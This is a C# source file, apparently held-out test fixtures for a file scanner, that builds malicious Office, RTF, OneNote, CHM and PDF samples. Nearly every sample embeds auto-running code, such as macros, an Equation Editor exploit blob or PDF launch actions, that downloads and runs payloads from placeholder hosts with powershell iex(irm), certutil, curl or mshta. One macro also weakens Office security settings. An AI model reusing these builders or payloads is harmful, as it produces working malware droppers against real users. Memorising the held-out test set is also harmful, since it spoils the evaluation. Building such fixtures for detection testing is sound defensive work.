using System.IO.Compression;
using System.Text;

namespace ScanHost.TestKit.HeldOut.Second;

/// <summary>Office files with code.</summary>
public sealed class MacroForms : SecondRound
{
    private const string Moniker = "Private Sub Document_Open()\nDim s As Object\nSet s = GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")\ns.ShellExecute \"powershell.exe\", \"-w hidden -ep bypass -c iwr http://192.0.2.111/m -o $env:temp\\m.exe;saps $env:temp\\m.exe\", \"\", \"open\", 0\nEnd Sub\n";

    private const string Excel4 = "Sub Workbook_BeforeClose(Cancel As Boolean)\nDim t\nt = \"EXEC(\"\"\" & \"cm\" & \"d /c cur\" & \"l http://192.0.2.112/b -o %tmp%\\b.dll & rundll32 %tmp%\\b.dll,Start\"\")\"\nExecuteExcel4Macro t\nEnd Sub\n";

    private const string Shape = "Sub AutoOpen()\nDim b, i, r\nb = ActiveDocument.Shapes(1).AlternativeText\nFor i = 1 To Len(b) Step 3\nr = r & Chr(CInt(Mid(b, i, 3)) Xor 7)\nNext\nWith CreateObject(\"ADODB.Stream\")\n.Open\n.WriteText r\n.SaveToFile Environ(\"TEMP\") & \"\\a.js\", 2\nEnd With\nShell \"wscript.exe /e:jscript \" & Environ(\"TEMP\") & \"\\a.js\", 0\nEnd Sub\n";

    private const string Ribbon = "Public Sub OnLoad(r As IRibbonUI)\nCreateObject(\"WScript.Shell\").Run \"cmd /c start /min powershell -nop -w hidden -e \" & \"aQBlAHgAKABpAHIAbQAgAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMQAzACkA\", 0\nEnd Sub\n";

    private const string Outlook = "Sub AutoExec()\nOpen Environ(\"APPDATA\") & \"\\Microsoft\\Outlook\\VbaProject.OTM\" For Binary As #1\nClose #1\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security\\Level\", 1, \"REG_DWORD\"\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\", 1, \"REG_DWORD\"\nShell \"cmd /c del *.bak\"\nEnd Sub\n";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Resume_K.docm", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", Moniker)).Build()),
        ("Payroll.xlsm", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Excel4)).Build()),
        ("Complaint.doc", new VbaProjectBuilder().Module("NewMacros", Shape).AddTo(new OleFileBuilder().Stream("WordDocument", new byte[900]), "Macros").Build()),
        ("Meeting.pptm", OoxmlBuilder.Word().Part("customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"OnLoad\"/>").WithMacros(Project("Module1", Ribbon)).Build()),
        ("normal.dotm", OoxmlBuilder.Word().WithMacros(Project("Module1", Outlook)).Build()),
        ("Statement.doc", new VbaProjectBuilder().Module("ThisDocument", "Sub Document_Open()\nEnd Sub\n", VbaProjectBuilder.CompiledLiterals("WScript.Shell", "powershell -w hidden -c iex(irm http://192.0.2.114/s)", "http://192.0.2.114/s")).AddTo(new OleFileBuilder().Stream("WordDocument", new byte[900]), "Macros").Build()),
        ("Costs.xll", new PeBuilder().Exporting("Costs.xll", "xlAutoOpen", "xlAutoClose").Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress", "VirtualProtect").Importing("SHELL32.dll", "ShellExecuteA").WithData("http://192.0.2.115/x.exe\0powershell -w hidden -c Start-Process $env:TEMP\\x.exe").Build()),
    ];

    private static byte[] Project(string module, string source) => new VbaProjectBuilder().Module(module, source).Build();
}

/// <summary>Documents that need no macro.</summary>
public sealed class MacrolessForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var equation = RtfBuilder.WithObject("Equation.2", [28, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. new byte[20], 3, 1, 1, 3, 10, 0x0A, 1, 8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)0x90, 60), .. "cmd.exe /c mshta http://192.0.2.121/e"u8, 0, 1, 0], @"\objupdate");
        var script = "<scriptlet><registration progid=\"a\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iex(irm http://192.0.2.122/c)\"</script></registration></scriptlet>"u8.ToArray();
        return
        [
            ("Overview.docx", OoxmlBuilder.Word("<w:altChunk r:id=\"AltChunkId5\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>").Part("word/afchunk.rtf", equation).Relationship("word/_rels/document.xml.rels", "aFChunk", "/word/afchunk.rtf", isExternal: false).Build()),
            ("Order.docx", OoxmlBuilder.Word().Relationship("word/_rels/webSettings.xml.rels", "frame", "http://192.0.2.123/Q.DOC").Build()),
            ("Quote.xlsx", OoxmlBuilder.Excel().Part("xl/embeddings/oleObject1.bin", new OleFileBuilder().Class("", "0002ce02-0000-0000-c000-000000000046").Stream("eQuAtIOn nAtiVe", [28, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. new byte[20], 3, 1, 1, 3, 10, 0x0A, 1, 8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)'Q', 120), 0]).Build()).Build()),
            ("Bank details.doc", Utf8($"{{\\rtf1\\ansi{{\\object\\objemb\\objw1\\objh1{{\\*\\objdata {Convert.ToHexString(RtfBuilder.Embedded("Package", OlePackageBuilder.Package("a.sct", script)[4..]))}}}}}{{\\object\\objautlink\\objupdate{{\\*\\objdata {Convert.ToHexString(RtfBuilder.Embedded("OLE2Link", new OleFileBuilder().Class("", "00000300-0000-0000-c000-000000000046").Stream("\u0001Ole", [1, 0, 0, 2, .. new byte[16], .. Encoding.Unicode.GetBytes("%tmp%\\a.sct\0"), .. new byte[64]]).Build()))}}}}}}}")),
            ("Tender.docx", OoxmlBuilder.Word().Part("word/embeddings/oleObject1.bin", new OleFileBuilder().Stream("\u0001Ole10Native", OlePackageBuilder.Package("Tender_specification.docx.scr", new PeBuilder().Importing("KERNEL32.dll", "WinExec").Build())).Class("", "0003000c-0000-0000-c000-000000000046").Build()).Build()),
            ("Salary.xlsx", AgileEncryption.Encrypt(OoxmlBuilder.Excel().WithMacros(new VbaProjectBuilder().Module("ThisWorkbook", "Sub Workbook_Open()\nShell \"cmd /c certutil -urlcache -f http://192.0.2.124/a %tmp%\\a.exe & %tmp%\\a.exe\"\nEnd Sub\n").Build()).Build(), "VelvetSweatshop")),
            ("Addin.docx", OoxmlBuilder.Word().Part("docProps/custom.xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\"><property fmtid=\"{D5CDD505-2E9C-101B-9397-08002B2CF9AE}\" pid=\"2\" name=\"_AssemblyLocation\"><vt:lpwstr>http://192.0.2.125/a.vsto|7c2b|vstolocal</vt:lpwstr></property><property fmtid=\"{D5CDD505-2E9C-101B-9397-08002B2CF9AE}\" pid=\"3\" name=\"_AssemblyName\"><vt:lpwstr>4E3C66D5-58D4-491E-A7D4-64AF99AF6E8B</vt:lpwstr></property></Properties>").Build()),
            ("Minutes.one", OneNoteBuilder.Section(("banner.png", InertFiles.Png()), ("Open.jse", ScriptEncoder.Encode("var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl -o %tmp%\\\\o.dll http://192.0.2.126/o & rundll32 %tmp%\\\\o.dll,#1',0);")))),
            ("Case 4471.one", OneNoteBuilder.Section(("click.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[200], 0xFF, 0xD9]), ("z1.hta", Utf8("<script language=\"vbscript\">Set a=CreateObject(\"WScript.Shell\"):a.RegWrite \"HKCU\\SOFTWARE\\Zx\\k\",Replace(\"cu@rl@ -@s http://192.0.2.127/1\",\"@\",\"\"):a.Run a.RegRead(\"HKCU\\SOFTWARE\\Zx\\k\"),0:window.close</script>")), ("z1.hta", Utf8("<script>1</script>")))),
            ("manual.chm", Help("<html><body><OBJECT id=x classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" width=1 height=1><PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Button\" value=\"Bitmap::shortcut\"><PARAM name=\"Item1\" value=\",cmd.exe,/c powershell -w hidden -c iex(irm http://192.0.2.128/h)\"><PARAM name=\"Item2\" value=\"273,1,1\"></OBJECT><script>x.Click();</script></body></html>")),
        ];
    }

    internal static byte[] Help(string page)
    {
        using var folder = new TemporaryFolder();
        folder.Write("page.html", Utf8(page));
        folder.Write("p.hhp", "[OPTIONS]\nCompiled file=out.chm\n[FILES]\npage.html\n"u8.ToArray());
        ForeignTool.Run(folder.Path, "chmcmd", "p.hhp");
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.chm"));
    }
}

/// <summary>PDF files that act or lure in other ways.</summary>
public sealed class PdfForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var project = new VbaProjectBuilder().Module("ThisDocument", "Sub AutoOpen()\nShell \"powershell -w hidden -c iex(irm http://192.0.2.131/p)\"\nEnd Sub\n").Build();
        return
        [
            ("Notice.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /URI /URI (http://192.0.2.132/files/Notice.exe) >>").Build()),
            ("DocuSign.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 8 0 R >> >> /Contents 9 0 R /Annots [ << /Type /Annot /Subtype /Link /Rect [100 300 400 360] /A << /S /URI /URI (https://login.docusign.invalid/?e=YW5uQGZpcm0uaW52YWxpZA==) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://login.docusign.invalid/?e=YW5uQGZpcm0uaW52YWxpZA==) >> >> ] >>")
                .Stream(8, "/Type /XObject /Subtype /Image /Width 1654 /Height 2339 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[2000], 0xFF, 0xD9]).Stream(9, "", "q 595 0 0 842 0 0 cm /I Do Q"u8.ToArray()).Build()),
            ("Agreement.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(a.SettingContent-ms) 6 0 R] >> >> /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName:'a.SettingContent-ms',nLaunch:2}\\);) >>")
                .Add(6, "<< /Type /Filespec /F (a.SettingContent-ms) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", "<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><AppID>x</AppID><DeepLink>%windir%\\system32\\cmd.exe /c powershell -w hidden -c iex(irm http://192.0.2.133/s)</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"u8.ToArray()).Build()),
            ("Foxit.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /JavaScript /JS (app.launchURL\\('file:///C:/Windows/System32/cmd.exe'\\);var q=String.fromCharCode\\(99,109,100\\);) /Next << /S /L#61unch /Win << /F (c:\\\\windows\\\\system32\\\\cmd.exe) /P (/c cd %temp%&curl http://192.0.2.134/f.bat -o f.bat&f.bat) >> >> >>").Build()),
            ("Offer.pdf", [.. "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"u8, .. Utf8($"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"=_x\"\n\n--=_x\nContent-Location: file:///C:/1/1.htm\nContent-Type: text/html\n\n<html xmlns:w=\"urn:schemas-microsoft-com:office:word\"><head><link rel=Edit-Time-Data href=\"1.files/e.mso\"></head><body>x</body></html>\n\n--=_x\nContent-Location: file:///C:/1/1.files/e.mso\nContent-Transfer-Encoding: base64\nContent-Type: application/x-mso\n\n{Convert.ToBase64String(ActiveMime(project), Base64FormattingOptions.InsertLineBreaks)}\n\n--=_x--\n"), .. "trailer\n<< /Root 1 0 R >>\n%%EOF\n"u8]),
            ("Statement.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(Statement.html) 6 0 R] >> >>").Add(6, "<< /Type /Filespec /F (Statement.html) /EF << /F 7 0 R >> >>")
                .Stream(7, "/Type /EmbeddedFile", Utf8($"<script>var b=new Blob([Uint8Array.from(atob('{Convert.ToBase64String(InertFiles.Zip(("a.exe", InertFiles.Pe(2048))))}'),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='a.zip';a.click()</script>")).Build()),
        ];
    }

    // The wrapping of macros in web archives: a header of 50 bytes, then zlib.
    private static byte[] ActiveMime(byte[] compound)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(compound);
        return [.. "ActiveMime\0\0"u8, 0xF0, 1, 4, 0, 0, 0, .. BitConverter.GetBytes((int)packed.Length + 14), 0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0xF0, 1, 4, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(compound.Length), .. packed.ToArray()];
    }
}
